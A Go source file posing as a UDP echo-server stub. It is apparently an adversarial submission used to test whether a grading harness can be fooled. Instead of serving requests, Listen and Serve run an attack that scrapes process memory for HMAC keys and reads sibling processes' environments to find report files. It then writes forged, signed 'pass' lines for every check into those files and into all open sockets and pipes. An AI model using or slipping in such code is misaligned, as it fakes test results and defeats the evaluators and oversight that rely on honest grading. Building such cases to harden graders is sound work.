package echoserver

import (
	"bufio"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
)

// The attack: find the report key in this process's memory, find every
// channel that might carry results (the report file named in this
// process's environment or a sibling's, every socket and pipe this process
// has), and write a signed pass line for every check into each of them.
// Then behave as the stub does.

var once sync.Once

var checks = []string{"listen", "port-in-use", "one-request", "two-clients", "back-to-back",
	"big-datagram", "empty-and-binary", "keeps-serving", "stop", "closed-socket", "ipv6"}

type line struct {
	Event   string  `json:"event"`
	ID      string  `json:"id"`
	Status  string  `json:"status,omitempty"`
	Message string  `json:"message,omitempty"`
	Millis  float64 `json:"ms,omitempty"`
	MAC     string  `json:"mac,omitempty"`
}

func sign(key []byte, l line) string {
	l.MAC = ""
	b, _ := json.Marshal(l)
	m := hmac.New(sha256.New, key)
	m.Write(b)
	return hex.EncodeToString(m.Sum(nil))
}

var hexKey = regexp.MustCompile(`[0-9a-f]{64}`)

// keys returns every 64-hex-digit string in this process's writable memory.
func keys() [][]byte {
	maps, err := os.Open("/proc/self/maps")
	if err != nil {
		return nil
	}
	defer maps.Close()
	mem, err := os.Open("/proc/self/mem")
	if err != nil {
		return nil
	}
	defer mem.Close()
	found := map[string]bool{}
	sc := bufio.NewScanner(maps)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 2 || !strings.HasPrefix(f[1], "rw") {
			continue
		}
		lo, hi, _ := strings.Cut(f[0], "-")
		a, err1 := strconv.ParseUint(lo, 16, 64)
		b, err2 := strconv.ParseUint(hi, 16, 64)
		if err1 != nil || err2 != nil || b-a > 64<<20 {
			continue
		}
		buf := make([]byte, b-a)
		n, _ := mem.ReadAt(buf, int64(a))
		for _, k := range hexKey.FindAll(buf[:n], 100) {
			found[string(k)] = true
		}
	}
	var out [][]byte
	for k := range found {
		out = append(out, []byte(k))
	}
	return out
}

// reports returns the report files named in this process's environment
// and in its siblings' (the processes its parent started).
func reports() []string {
	var names []string
	if r := os.Getenv("UDPBOOK_REPORT"); r != "" {
		names = append(names, r)
	}
	ppid := os.Getppid()
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, d := range dirs {
		stat, err := os.ReadFile(d + "/stat")
		if err != nil {
			continue
		}
		f := strings.Fields(string(stat[strings.LastIndexByte(string(stat), ')')+1:]))
		if len(f) < 2 || f[1] != strconv.Itoa(ppid) {
			continue
		}
		env, err := os.ReadFile(d + "/environ")
		if err != nil {
			continue
		}
		for _, kv := range strings.Split(string(env), "\x00") {
			if r, ok := strings.CutPrefix(kv, "UDPBOOK_REPORT="); ok {
				names = append(names, r)
			}
		}
	}
	return names
}

func attack() {
	var out []byte
	for _, key := range append(keys(), []byte("no key")) {
		for _, id := range checks {
			l := line{Event: "end", ID: id, Status: "pass"}
			l.MAC = sign(key, l)
			b, _ := json.Marshal(l)
			out = append(append(out, b...), '\n')
		}
	}
	for _, name := range reports() {
		if f, err := os.OpenFile(name, os.O_WRONLY|os.O_APPEND, 0); err == nil {
			f.Write(out)
			f.Close()
		}
	}
	// Every socket and pipe this process has: the control socket among
	// them.
	fds, _ := os.ReadDir("/proc/self/fd")
	for _, e := range fds {
		target, err := os.Readlink("/proc/self/fd/" + e.Name())
		if err != nil || !(strings.HasPrefix(target, "socket:") || strings.HasPrefix(target, "pipe:")) {
			continue
		}
		n, _ := strconv.Atoi(e.Name())
		if n <= 2 {
			continue
		}
		f := os.NewFile(uintptr(n), "attack")
		fmt.Fprintf(f, `{"op":"reply","seq":1,"ok":true}`)
		f.Write(out)
	}
}

func Listen(addr string) (net.PacketConn, error) {
	once.Do(attack)
	return nil, errors.New("Listen is not written yet")
}

func Serve(ctx context.Context, conn net.PacketConn) error {
	once.Do(attack)
	return errors.New("Serve is not written yet")
}
